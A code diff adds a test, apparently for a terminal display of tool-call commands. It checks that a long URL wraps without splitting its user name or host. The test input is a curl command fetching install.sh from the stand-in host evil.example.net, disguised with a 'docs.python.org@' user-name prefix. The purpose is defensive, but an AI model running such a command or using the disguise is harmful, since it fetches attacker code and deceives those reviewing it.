@@ -94,6 +94,17 @@ def test_a_head_wider_than_a_line_still_keeps_its_host_whole() -> None:
     assert any("@evil.example.net" in row or row.startswith("evil.example.net") for row in rows)
 
 
+@pytest.mark.parametrize("before", range(40))
+def test_a_user_name_that_reads_as_a_host_is_not_cut_either(before: int) -> None:
+    """``https://docs.python.org@evil.example.net/…`` at 40 columns: the head does not fit
+    a line, so it breaks between the user name and the host, each kept whole."""
+    url = "https://docs.python.org@evil.example.net/install.sh"
+    lines = input_lines({"command": "y" * before + " curl " + url}, Style(width=40))
+    rows = value_rows(lines)
+    assert any(row.endswith("https://docs.python.org@") for row in rows), lines
+    assert any(row.startswith("evil.example.net/") for row in rows), lines
+
+
 def test_at_40_columns_the_issue_s_command_keeps_its_url_whole() -> None:
     lines = input_lines({"command": f"x {INSTALL}"}, Style(width=40))
     assert lines[:2] == ["  command: x ", f"      ↪ {INSTALL}"]
